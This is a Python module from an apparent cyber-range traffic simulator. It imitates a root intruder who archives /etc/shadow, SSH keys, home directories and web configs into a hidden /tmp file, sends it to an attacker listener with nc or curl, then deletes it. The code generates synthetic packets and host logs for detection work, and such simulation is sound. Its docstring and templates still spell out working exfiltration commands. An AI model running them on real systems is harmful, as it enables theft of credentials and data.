"""Data staged in an archive and sent out, MITRE ATT&CK T1074.001 Data Staged: Local Data
Staging, T1560.001 Archive Collected Data: Archive via Utility, T1048.003 Exfiltration Over
Unencrypted Non-C2 Protocol.

Imitates an intruder with a root shell (a fresh callback from the privilege escalation's root
shell; :mod:`attack_scripts._shellsession`) who packs what is worth taking into a hidden file in
``/tmp`` and sends it to a second listener on Kali:

* ``archive``: ``tar czf /tmp/.x.tgz PATHS`` (GNU tar and gzip) or ``zip -qr /tmp/.x.zip PATHS``;
  ``paths`` default to the server's data (the portal's ``/var/www/html`` and ``/etc/nginx`` on a
  web server, ``/srv/ftp`` on a file server, ``/var/mail`` on a mail relay) with ``/etc/passwd``,
  ``/etc/shadow``, ``/home`` and ``/root/.ssh``;
* ``channel``: ``nc -q 1 ATTACKER 443 < /tmp/.x.tgz`` to ``nc -lvnp 443 > loot.tgz`` (raw bytes on
  a port that usually carries TLS), or ``curl -s -F file=@/tmp/.x.tgz http://ATTACKER:8000/upload``
  to ``python3 -m uploadserver 8000`` (a multipart POST);
* then ``rm -f`` of the archive.

The archive is real: a gzip'd tar (or a zip) of the files as the server holds them (the
portal's PHP with its database password, the published PDFs, the shadow file, the
administrator's history and private key...), the same content the other steps showed, built
deterministically; Wireshark's Follow TCP Stream / Export Objects gives back a file that ``tar
tzf`` lists.

On the server (host records): the callback's processes and connection, then ``tar`` (and its
``gzip``) or ``zip`` as children of the root shell, the archive written (file_event), ``ls``,
``nc``/``curl`` with its ``network_connection`` (``Initiated=true``, to the second port), ``rm``.
"""
from __future__ import annotations

import gzip
import io
import re
import tarfile
import time
import zipfile
from dataclasses import dataclass
from typing import Callable, Literal

from pydantic import Field, field_validator

from attack_scripts import _http, _linux
from attack_scripts._shellsession import Session, SessionParams, admin_of, bound, check_paths, ls_time, play, secret
from attack_scripts._tcptime import session_end
from attack_scripts.credential_access import history, private_key, shadow
from attack_scripts.persistence import intruder_key
from range.traffic import Proc, StepContext, TcpSession, Technique, ephemeral_port, technique

BY_SERVICE = {"http": ["/var/www/html", "/etc/nginx"], "ftp": ["/srv/ftp"], "smtp": ["/var/mail"]}
ALWAYS = ["/etc/passwd", "/etc/shadow", "/home", "/root/.ssh"]
STAGE = "/tmp/.x"
_PATH = re.compile(r"^/[A-Za-z0-9._/-]{0,200}$")
_WORST_IP = "255.255.255.255"

Files = list[tuple[str, bytes, int]]  # (path, content, mode)


class Params(SessionParams):
    archive: Literal["tgz", "zip"] = Field(default="tgz", description="tar czf, or zip -qr")
    channel: Literal["nc", "curl"] = Field(default="nc", description="nc to a raw port, or curl's multipart POST")
    exfil_port: int | None = Field(default=None, ge=1, le=65535,
                                   description="the intruder's receiving port; default 443 for nc, 8000 for curl")
    paths: list[str] | None = Field(default=None, min_length=1, max_length=20,
                                    description="what goes into the archive; default the server's data and accounts")

    @field_validator("paths")
    @classmethod
    def _absolute(cls, v: list[str] | None) -> list[str] | None:
        return check_paths(v, _PATH)


# ---- what the server holds ------------------------------------------------------------------------

class _Disk:
    """The files under each path the archive may take, as the other steps showed them."""

    def __init__(self, ctx: StepContext):
        lay, node = ctx.layout, ctx.targets[0].name
        self.ctx, self.admin = ctx, admin_of(lay, node)
        domain = ctx.domain
        self.trees: dict[str, Callable[[], Files]] = {
            "/var/www/html": lambda: [("/var/www/html/config.php", self._config(), 0o640)] + [
                (f"/var/www/html/files/{name}", _http.document(domain, name), 0o644)
                for name, _title, _type in _http.DOCUMENTS],
            "/etc/nginx": lambda: [("/etc/nginx/sites-enabled/portal", self._nginx(), 0o644)],
            "/etc/passwd": lambda: [("/etc/passwd", self._passwd(), 0o644)],
            "/etc/shadow": lambda: [("/etc/shadow", shadow(lay, node).encode(), 0o640)],
            "/home": lambda: [(f"/home/{self.admin}/.bash_history", history(lay, node).encode(), 0o600),
                              (f"/home/{self.admin}/.ssh/id_rsa", private_key(lay, node, self.admin).encode(), 0o600)],
            "/root/.ssh": lambda: [("/root/.ssh/authorized_keys", (intruder_key(lay) + "\n").encode(), 0o600)],
            "/srv/ftp": lambda: [(f"/srv/ftp/scans/{name}", _http.document(domain, name), 0o644)
                                 for name, _t, _m in _http.DOCUMENTS[:4]],
            "/var/mail": lambda: [("/var/mail/root", b"From MAILER-DAEMON\nSubject: Cron <root@" + node.encode()
                                   + b"> /usr/local/sbin/backup.sh\n\nbackup done\n", 0o600)],
        }

    def files(self, paths: list[str]) -> tuple[Files, list[str]]:
        """The files under ``paths``, and the paths the server does not have."""
        out: Files = []
        missing: list[str] = []
        for path in paths:
            tree = self.trees.get(path.rstrip("/") or "/")
            if tree is None:
                missing.append(path)
            else:
                out += tree()
        return out, missing

    def _config(self) -> bytes:
        db = secret(self.ctx.layout, self.ctx.targets[0].name, "db")
        return (f"<?php\n$db_host = 'localhost';\n$db_name = 'portal';\n$db_user = 'portal_app';\n"
                f"$db_pass = '{db}';\n").encode()

    def _nginx(self) -> bytes:
        return (b"server {\n    listen 80 default_server;\n    root /var/www/html;\n    index index.php;\n"
                b"    location ~ \\.php$ {\n        include snippets/fastcgi-php.conf;\n"
                b"        fastcgi_pass unix:/run/php/php8.2-fpm.sock;\n    }\n}\n")

    def _passwd(self) -> bytes:
        a = self.admin
        return ("root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
                f"sshd:x:101:65534::/run/sshd:/usr/sbin/nologin\n{a}:x:1000:1000::/home/{a}:/bin/bash\n").encode()


def tgz(files: Files, when: float) -> bytes:
    """GNU tar's ``czf``: members without the leading ``/``, gzip'd (header OS: Unix)."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for i, (path, data, mode) in enumerate(files):
            info = tarfile.TarInfo(path.lstrip("/"))
            info.size, info.mode, info.mtime = len(data), mode, int(when) - 86400 * (3 + i % 40)
            info.uname = info.gname = "root"
            tar.addfile(info, io.BytesIO(data))
    out = bytearray(gzip.compress(raw.getvalue(), compresslevel=6, mtime=int(when)))
    out[9] = 3
    return bytes(out)


def zipped(files: Files, when: float) -> bytes:
    """Info-ZIP's ``zip -qr``: deflated members without the leading ``/``."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for i, (path, data, mode) in enumerate(files):
            info = zipfile.ZipInfo(path.lstrip("/"), time.gmtime(int(when) - 86400 * (3 + i % 40))[:6])
            info.external_attr, info.create_system = (0o100000 | mode) << 16, 3  # Unix permissions
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


@dataclass(frozen=True)
class Packer:
    ext: str
    line: str  # {archive} {paths}
    helpers: tuple[tuple[str, str], ...]  # the programs it starts (argv[0], image)
    pack: Callable[[Files, float], bytes]
    says: Callable[[list[str]], str]  # what it prints for the paths missing


PACKERS = {
    "tgz": Packer("tgz", "tar czf {archive} {paths}", (("gzip", "/usr/bin/gzip"),), tgz,
                  lambda missing: "tar: Removing leading `/' from member names\n" + "".join(
                      f"tar: {m}: Cannot stat: No such file or directory\n" for m in missing)
                  + ("tar: Exiting with failure status due to previous errors\n" if missing else "")),
    "zip": Packer("zip", "zip -qr {archive} {paths}", (), zipped,
                  lambda missing: "".join(f"\tzip warning: name not matched: {m}\n" for m in missing)),
}


# ---- the way out ----------------------------------------------------------------------------------

def _nc(r, src: str, dst: str, port: int, data: bytes, name: str, t: float, rtt: float) -> TcpSession:
    """``nc -q 1 DST PORT < ARCHIVE``: the bytes, then netcat waits a second after EOF and closes."""
    return TcpSession(t=t, client=src, server=dst, sport=ephemeral_port(r), dport=port, rtt=rtt,
                      messages=[(r.uniform(0.0002, 0.001), "c", data), (1.0, "c", b"")], close="client_fin")


def _curl(r, src: str, dst: str, port: int, data: bytes, name: str, t: float, rtt: float) -> TcpSession:
    """curl 7.88's multipart POST to uploadserver (Python's http.server: HTTP/1.0, 204, closes)."""
    boundary = "-" * 24 + "".join(r.choice("0123456789abcdef") for _ in range(16))
    body = _http.multipart(boundary, [("file", name, "application/octet-stream", data)])
    req = _http.request("POST", "/upload", [("Host", f"{dst}:{port}"), ("User-Agent", "curl/7.88.1"), ("Accept", "*/*"),
                                            ("Content-Length", str(len(body))),
                                            ("Content-Type", f"multipart/form-data; boundary={boundary}")], body)
    conn = _http.Conn(t, src, dst, ephemeral_port(r), dport=port, rtt=rtt)
    conn.exchange(req, lambda w: _http.response(204, [("Server", "SimpleHTTP/0.6 Python/3.11.8"),
                                                      ("Date", _http.http_date(w))]), 0.0, r.uniform(0.003, 0.03))
    conn.close = "server_fin"
    return conn.session()


@dataclass(frozen=True)
class Channel:
    line: str  # {archive} {ip} {port}
    port: int
    send: Callable[..., TcpSession]


CHANNELS = {"nc": Channel("nc -q 1 {ip} {port} < {archive}", 443, _nc),
            "curl": Channel("curl -s -F file=@{archive} http://{ip}:{port}/upload", 8000, _curl)}


def default_paths(host) -> list[str]:
    return [p for s in host.services for p in BY_SERVICE.get(s, [])] + ALWAYS


@technique
class StageExfil(Technique):
    name = "stage_exfil"
    attack = "T1048.003"
    tactic = "exfiltration"
    summary = "as root: tar/zip of the server's data into /tmp, sent to the intruder with nc or curl"
    Params = Params
    max_targets = 1

    def duration(self, p: Params) -> float:
        paths = " ".join(p.paths or ["/var/www/html", "/etc/nginx", "/srv/ftp", "/var/mail", *ALWAYS])
        typed = [PACKERS[p.archive].line.format(archive=STAGE, paths=paths), "ls -la " + STAGE + ".tgz",
                 CHANNELS[p.channel].line.format(ip=_WORST_IP, port=65535, archive=STAGE + ".tgz"), "rm -f " + STAGE]
        return bound(typed, p.think) + 6.0  # packing, and netcat's second after the upload

    def generate(self, ctx: StepContext):
        p: Params = ctx.params
        return play(ctx, p, "root", _Exfil(ctx, p).script, self.duration(p))


class _Exfil:
    """One run of the step: the archive, its lines and what they do on the server."""

    def __init__(self, ctx: StepContext, p: Params):
        self.ctx, self.log, self.host, self.me = ctx, ctx.host, ctx.targets[0], ctx.source.ip
        self.packer, self.channel = PACKERS[p.archive], CHANNELS[p.channel]
        self.port = p.exfil_port or self.channel.port
        self.archive = f"{STAGE}.{self.packer.ext}"
        paths = p.paths or default_paths(self.host)
        files, self.missing = _Disk(ctx).files(paths)
        self.data = self.packer.pack(files, ctx.t0)
        self.pack_line = self.packer.line.format(archive=self.archive, paths=" ".join(paths))
        self.send_line = self.channel.line.format(ip=self.me, port=self.port, archive=self.archive)
        self.sent: list[TcpSession] = []

    def script(self, s: Session) -> list[TcpSession]:
        r, archive = self.ctx.rng, self.archive
        s.type(self.pack_line, self.packer.says(self.missing), does=self.pack, took=r.uniform(0.3, 2.5))
        stamp = ls_time(self.ctx.t0, self.ctx.t0)
        s.type(f"ls -la {archive}", f"-rw-r--r-- 1 root root {len(self.data)} {stamp} {archive}\n")
        s.type(self.send_line, "", does=self.send, took=self.upload)
        s.type(f"rm -f {archive}", "")
        return list(self.sent)

    def upload(self, arrived: float) -> float:
        """The transfer, started as the line reaches the server: how long until the prompt."""
        r = self.ctx.rng
        self.sent[:] = [self.channel.send(r, self.host.ip, self.me, self.port, self.data,
                                          self.archive.rsplit("/", 1)[1], arrived + r.uniform(0.002, 0.006),
                                          _http.lan_rtt(r))]
        return session_end(self.sent[0]) - arrived + r.uniform(0.001, 0.004)

    def pack(self, t: float, shell: Proc, _until: float | None) -> list[Proc]:
        log = self.log
        procs = _linux.run(log, t, shell, self.pack_line)
        for argv0, image in self.packer.helpers:
            procs.append(log.process(t + log.rng.uniform(0.001, 0.003), procs[0], [argv0], image))
        log.file(t + log.rng.uniform(0.004, 0.01), procs[0], self.archive)
        return procs

    def send(self, t: float, shell: Proc, _until: float | None) -> list[Proc]:
        procs = _linux.run(self.log, t, shell, self.send_line)
        sess = self.sent[0]
        self.log.connection(sess.t, procs[0], self.host.ip, sess.sport, self.me, self.port)
        return procs
